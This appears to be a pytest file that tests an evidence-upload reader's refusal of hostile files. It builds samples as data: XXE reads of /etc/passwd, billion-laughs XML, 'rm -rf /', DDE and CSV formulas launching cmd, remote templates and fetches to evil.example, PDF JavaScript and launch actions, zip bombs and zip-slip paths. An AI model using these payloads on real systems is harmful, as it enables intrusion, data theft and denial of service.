"""Files that attack whoever opens them: each is refused in a sentence, the reader survives."""

import resource
import tempfile
import time
import zipfile
from collections.abc import Callable
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from portal.evidence import reading
from portal.evidence.reader import unfit
from portal.evidence.rules import FileRefused
from tests.evidence.files import (
    attached,
    bomb_chunk,
    changed,
    document,
    flood,
    in_document,
    linked,
    locked_archive,
    lying,
    noted,
    open_sheet,
    packed,
    pdf,
    photo,
    picture,
    root,
    with_relation,
    workbook,
)

DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
ESCAPED = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(x)>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def field(instruction: str) -> bytes:
    """A Word field whose instruction is spread over runs."""
    half = len(instruction) // 2
    parts = (instruction[:half], instruction[half:])
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    begins = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return in_document(f"<w:p>{begins}{runs}</w:p>")


def formula(text: str) -> bytes:
    return workbook(lambda book: book.active.append([text]))


def nested() -> bytes:
    inner = packed({"a.txt": "a" * 1000})
    return changed(document(), {"word/media/x.zip": inner})


def overlong() -> bytes:
    """An e-mail of parts within parts."""
    head = "".join(
        f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(3_000)
    )
    return b"From: a@b.example\nMIME-Version: 1.0\n" + head.encode()


DOC_RELS, BOOK_RELS = "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    # what it is
    "an empty file": (lambda: b"", "empty"),
    "a file of NULs": (lambda: b"\0" * 5000, "empty"),
    "a program of Windows": (lambda: b"MZ\x90\x00" + b"\0" * 200, "type"),
    "a program of Linux": (lambda: b"\x7fELF\x02\x01" + b"\0" * 200, "type"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "type"),
    "a GIF that is JavaScript": (lambda: b"GIF89a/*\x01\x00*/=1;alert(1)", "type"),
    "a drawing with script": (lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>", "type"),
    "XML with a style": (lambda: b"<?xml version='1.0'?><a onload='x'/>", "type"),
    "XML that reads a file": (lambda: DOCTYPE.encode(), "type"),
    "rich text": (lambda: b"{\\rtf1\\ansi{\\object\\objdata 01}}", "type"),
    "an old Office file": (lambda: OLD, "type"),
    "an Office file with a password": (
        lambda: OLD + "EncryptedPackage".encode("utf-16-le"),
        "encrypted",
    ),
    "a mail of Outlook cut short": (
        lambda: OLD + "__properties_version1.0".encode("utf-16-le"),
        "damaged",
    ),
    "an archive of anything": (lambda: packed({"a.txt": "x"}), "type"),
    # archives
    "a zip bomb": (lambda: packed({"word/document.xml": b"\0" * 60_000_000}), "unpacks too far"),
    "a ratio over 50": (
        lambda: packed({"word/document.xml": b"<a/>" * 600_000}),
        "unpacks too far",
    ),
    "20,000 entries": (lambda: packed({f"a{n}": "" for n in range(20_000)}), "too many entries"),
    "a lying size": (lambda: lying(), "damaged"),
    "an archive in it": (lambda: nested(), "embedded files"),
    "zip slip": (
        lambda: changed(document(), {"../../../tmp/canary": "x"}),
        "names that lead elsewhere",
    ),
    "zip slip of Windows": (
        lambda: changed(document(), {"..\\..\\canary.exe": "x"}),
        "names that lead elsewhere",
    ),
    "an absolute name": (
        lambda: changed(document(), {"/etc/canary": "x"}),
        "names that lead elsewhere",
    ),
    "a symbolic link": (lambda: linked(), "names that lead elsewhere"),
    "a locked archive": (lambda: locked_archive(), "encrypted"),
    "an archive behind a picture": (
        lambda: picture("JPEG") + packed({"a": "b"}),
        "two files in one",
    ),
    "an archive cut short": (lambda: document()[:-300], "damaged"),
    "something behind an archive": (lambda: document() + b"<script>", "two files in one"),
    # Office
    "a macro": (lambda: changed(document(), {"word/vbaProject.bin": "x"}), "macros"),
    "a macro by its type": (
        lambda: changed(
            document(), edit=("[Content_Types].xml", "document.main+xml", "macroEnabled")
        ),
        "macros",
    ),
    "an Excel 4 macro": (
        lambda: changed(workbook(), {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "macros",
    ),
    "ActiveX": (lambda: changed(document(), {"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    "an embedded object": (
        lambda: changed(document(), {"word/embeddings/oleObject1.bin": "x"}),
        "embedded files",
    ),
    "an embedded PDF": (
        lambda: changed(document(), {"word/media/a.png": b"%PDF-1.7"}),
        "embedded files",
    ),
    "a remote template": (
        lambda: with_relation(
            document(), DOC_RELS, "attachedTemplate", "https://evil.example/t.dotm"
        ),
        "external references",
    ),
    "a picture from elsewhere": (
        lambda: with_relation(document(), DOC_RELS, "image", "https://evil.example/pixel.png"),
        "external references",
    ),
    "a link to a share": (
        lambda: with_relation(document(), DOC_RELS, "hyperlink", "file://evil.example/share"),
        "external references",
    ),
    "a link that is a script": (
        lambda: with_relation(document(), DOC_RELS, "hyperlink", "javascript:alert(1)"),
        "external references",
    ),
    "a linked workbook": (
        lambda: changed(workbook(), {"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "external references",
    ),
    "a connection": (
        lambda: changed(workbook(), {"xl/connections.xml": "<x/>"}),
        "external references",
    ),
    "a Word field with DDE": (
        lambda: field(" DDEAUTO c:\\cmd.exe /k calc "),
        "external references",
    ),
    "a simple field with DDE": (
        lambda: in_document('<w:p><w:fldSimple w:instr="DDE cmd calc"/></w:p>'),
        "external references",
    ),
    "a field that fetches": (
        lambda: field(' INCLUDEPICTURE "https://evil.example/x" '),
        "external references",
    ),
    "a formula with DDE": (lambda: formula("=cmd|'/c calc'!A0"), "external references"),
    "a formula that asks the web": (
        lambda: formula('=WEBSERVICE("https://evil.example")'),
        "external references",
    ),
    "an entity that reads a file": (
        lambda: changed(document(), {"customXml/item1.xml": DOCTYPE}),
        "document type",
    ),
    "a document type that asks another machine": (
        lambda: changed(
            document(), {"word/x.xml": '<!DOCTYPE x SYSTEM "https://evil.example"><x/>'}
        ),
        "document type",
    ),
    "a billion laughs": (
        lambda: changed(workbook(), {"xl/sharedStrings.xml": LAUGHS}),
        "document type",
    ),
    "a document type in UTF-16": (
        lambda: changed(document(), {"word/x.xml": DOCTYPE.replace("1.0", "1.0").encode("utf-16")}),
        "document type",
    ),
    "a drawing with script in a document": (
        lambda: changed(document(), {"word/media/a.svg": "<svg><script>x</script></svg>"}),
        "script in a drawing",
    ),
    "XML that does not end": (lambda: changed(workbook(), {"xl/workbook.xml": "<a>"}), "damaged"),
    # LibreOffice
    "a Basic macro": (lambda: open_sheet(more={"Basic/script-lc.xml": "<x/>"}), "macros"),
    "a listener": (lambda: open_sheet(head='<script:event-listener xlink:href="x"/>'), "macros"),
    "an object in a sheet": (
        lambda: open_sheet(more={"Object 1/content.xml": "<x/>"}),
        "embedded files",
    ),
    "a sheet linked to another": (
        lambda: open_sheet('<table:table-source xlink:href="file:///x.ods"/>'),
        "external references",
    ),
    "a locked sheet": (
        lambda: open_sheet(more={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        "encrypted",
    ),
    # PDF
    "a PDF with JavaScript": (lambda: pdf(root(OpenAction=SCRIPT)), "active content"),
    "a PDF with JavaScript by escapes": (lambda: ESCAPED, "active content"),
    "a PDF with named JavaScript": (
        lambda: pdf(
            root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT]))))
        ),
        "active content",
    ),
    "a PDF with JavaScript in packed objects": (
        lambda: pdf(
            noted(Subtype=Name.Link, A=SCRIPT),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "active content",
    ),
    "a PDF that launches": (
        lambda: pdf(noted(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "active content",
    ),
    "a PDF that phones home": (
        lambda: pdf(root(OpenAction=Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "active content",
    ),
    "a PDF that sends a form": (
        lambda: pdf(noted(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("x")))),
        "active content",
    ),
    "a PDF with a form of XFA": (
        lambda: pdf(root(AcroForm=Dictionary(XFA=String("x"), Fields=Array()))),
        "active content",
    ),
    "a PDF with a file in it": (lambda: pdf(attached), "embedded files"),
    "a PDF with a password": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "encrypted",
    ),
    "a PDF with restrictions": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "encrypted",
    ),
    "a PDF that is an archive": (lambda: pdf() + packed({"a": "b"}), "two files in one"),
    "a PDF that is a web page": (lambda: pdf() + b"<html><script>x</script>", "two files in one"),
    "a PDF of nothing": (lambda: b"%PDF-1.7\n" + b"x" * 100, "damaged"),
    # pictures
    "a picture of 10 billion pixels": (lambda: flood(100_000, 100_000), "too many pixels"),
    "a picture of 41 million pixels": (lambda: flood(6_410, 6_400), "too many pixels"),
    "a picture with a text that unpacks": (lambda: bomb_chunk(), "damaged"),
    "half a PNG": (lambda: picture("PNG", (400, 300))[:200], "damaged"),
    "half a JPEG": (lambda: photo()[:-200], "damaged"),
    "a web page behind a PNG": (
        lambda: picture() + b"<html><script>x</script>",
        "two files in one",
    ),
    "a program behind a JPEG": (lambda: picture("JPEG") + b"<?php x", "two files in one"),
    # texts
    "a CSV with DDE": (lambda: b"Make,Number\n=cmd|'/c calc'!A0,1\n", "formulas that run"),
    "a CSV with DDE behind spaces": (
        lambda: b"Make\n\"  +cmd|' /c calc'!A0\"\n",
        "formulas that run",
    ),
    "a CSV that asks the web": (
        lambda: b'Make\n=IMPORTXML("https://evil.example","//a")\n',
        "formulas that run",
    ),
    "parts without end": (lambda: overlong(), "no text|damaged"),
}


def why_refused(content: bytes, suffix: str = "") -> FileRefused:
    with tempfile.TemporaryFile() as file:
        file.write(content)
        file.flush()
        with pytest.raises(FileRefused) as refused:
            reading.check(file, suffix)
    return refused.value


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_with_what_was_found_and_what_to_do(what: str) -> None:
    make, why = HOSTILE[what]
    refused = why_refused(make())
    assert refused.why in why.split("|"), (refused.why, refused.sentence)
    assert len(refused.sentence) > 30 and refused.sentence.endswith(".")
    assert "Traceback" not in refused.sentence and "/etc/" not in refused.sentence


def test_a_bomb_grows_neither_the_server_nor_the_wait() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()
    kept = BytesIO()
    with (
        zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as member,
    ):
        for _ in range(500):
            member.write(b"\0" * 1_000_000)
    assert why_refused(kept.getvalue()).why == "unpacks too far"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150_000  # kB
    assert time.process_time() - started < 10


def test_the_bounds_of_archives_are_those_that_are_published() -> None:
    assert (unfit.MOST_UNPACKED, unfit.MOST_ENTRIES, unfit.MOST_RATIO, unfit.MOST_PIXELS) == (
        50_000_000, 1_000, 50, 40_000_000,
    )  # fmt: skip


def test_a_reader_that_does_not_end_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "MOST_SECONDS", 0)
    assert why_refused(b"We use 12 Axis cameras.").why == "too much"


def test_a_reader_that_wants_too_much_memory_is_stopped() -> None:
    # A million elements, each within the next: what unpacks to little may still need much.
    deep = "<a>" * 4_000_000
    assert why_refused(changed(document(), {"word/document.xml": deep}, None)).why in {
        "too much", "damaged", "unpacks too far",
    }  # fmt: skip


def test_the_reader_has_no_secret_and_can_write_no_file(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: dict[str, object] = {}
    real = reading.subprocess.Popen

    def watched(*args: object, **named: object) -> object:
        seen.update(named)
        return real(*args, **named)  # type: ignore[call-overload]

    monkeypatch.setattr(reading.subprocess, "Popen", watched)
    why_refused(b"")
    assert seen["env"] == {}


def test_when_too_many_are_read_at_once_the_next_is_asked_to_come_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(reading, "PATIENCE", 0)
    with reading._turn(), reading._turn(), pytest.raises(reading.ReaderBusy), reading._turn():
        pass
